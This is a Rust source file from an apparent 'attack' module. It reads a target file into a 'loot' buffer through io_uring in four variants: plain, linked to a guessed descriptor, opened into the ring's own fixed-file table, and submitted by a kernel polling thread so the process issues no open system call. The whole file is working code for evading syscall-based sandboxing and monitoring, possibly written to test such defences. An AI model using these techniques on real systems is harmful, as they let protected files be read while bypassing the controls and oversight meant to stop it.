//! Opens the file through an io_uring ring, in three ways.

use std::ffi::CStr;
use std::io;

use io_uring::{IoUring, opcode, squeue, types};
use nix::libc;

use super::target::{FileTarget, next_descriptor, obtained};
use crate::attack::loot::DATA;
use crate::attack::slot::Slot;

/// [`DATA`] as the ring counts.
const ROOM: u32 = 192;
const _: () = assert!(ROOM as usize == DATA);

fn push(ring: &mut IoUring, entries: &[squeue::Entry]) -> io::Result<()> {
    // SAFETY: path and buffer outlive the wait for the completions, which follows in every caller.
    unsafe { ring.submission().push_multiple(entries) }.map_err(io::Error::other)
}

/// Waits for `count` completions; an error of any of them, else the result of the last.
fn results(ring: &mut IoUring, count: usize) -> io::Result<i32> {
    ring.submit_and_wait(count)?;
    let mut last = 0;
    for completion in ring.completion() {
        if completion.result() < 0 {
            return Err(io::Error::from_raw_os_error(-completion.result()));
        }
        last = completion.result();
    }
    Ok(last)
}

fn open_entry(path: &CStr) -> opcode::OpenAt {
    opcode::OpenAt::new(types::Fd(libc::AT_FDCWD), path.as_ptr()).flags(libc::O_RDONLY)
}

/// One submission opens, a second one reads.
///
/// # Errors
/// Those of the operations; `EPERM` or `ENOSYS` without io_uring.
pub fn attempt(target: &FileTarget, slot: Slot<'_>) -> io::Result<()> {
    let path = target.c_path()?;
    let mut ring = IoUring::new(4)?;
    push(&mut ring, &[open_entry(&path).build()])?;
    let fd = results(&mut ring, 1)?;
    push(
        &mut ring,
        &[opcode::Read::new(types::Fd(fd), slot.data_ptr(), ROOM)
            .offset(0)
            .build()],
    )?;
    obtained(usize::try_from(results(&mut ring, 1)?).unwrap_or(0))
}

/// One submission does both: the read of the guessed descriptor is linked to the open, so it is over before
/// the system call returns.
///
/// # Errors
/// Those of the operations.
pub fn linked(target: &FileTarget, slot: Slot<'_>) -> io::Result<()> {
    let path = target.c_path()?;
    let mut ring = IoUring::new(4)?;
    let guess = types::Fd(next_descriptor()?);
    let open = open_entry(&path).build().flags(squeue::Flags::IO_LINK);
    push(
        &mut ring,
        &[
            open,
            opcode::Read::new(guess, slot.data_ptr(), ROOM).offset(0).build(),
        ],
    )?;
    obtained(usize::try_from(results(&mut ring, 2)?).unwrap_or(0))
}

/// As [`linked`], into a table of the ring's own: the process never has a descriptor.
///
/// # Errors
/// Those of the operations.
pub fn fixed(target: &FileTarget, slot: Slot<'_>) -> io::Result<()> {
    let path = target.c_path()?;
    let mut ring = IoUring::new(4)?;
    ring.submitter().register_files_sparse(1)?;
    let place = types::DestinationSlot::try_from_slot_target(0).map_err(|_| io::ErrorKind::InvalidInput)?;
    let open = open_entry(&path)
        .file_index(Some(place))
        .build()
        .flags(squeue::Flags::IO_LINK);
    push(
        &mut ring,
        &[
            open,
            opcode::Read::new(types::Fixed(0), slot.data_ptr(), ROOM)
                .offset(0)
                .build(),
        ],
    )?;
    obtained(usize::try_from(results(&mut ring, 2)?).unwrap_or(0))
}

/// As [`fixed`], by the kernel's own polling thread: the process makes no system call for the open.
///
/// # Errors
/// Those of the operations.
pub fn polled(target: &FileTarget, slot: Slot<'_>) -> io::Result<()> {
    let path = target.c_path()?;
    let mut ring = IoUring::builder().setup_sqpoll(50).build(4)?;
    ring.submitter().register_files_sparse(1)?;
    let place = types::DestinationSlot::try_from_slot_target(0).map_err(|_| io::ErrorKind::InvalidInput)?;
    let open = open_entry(&path)
        .file_index(Some(place))
        .build()
        .flags(squeue::Flags::IO_LINK);
    push(
        &mut ring,
        &[
            open,
            opcode::Read::new(types::Fixed(0), slot.data_ptr(), ROOM)
                .offset(0)
                .build(),
        ],
    )?;
    obtained(usize::try_from(results(&mut ring, 2)?).unwrap_or(0))
}
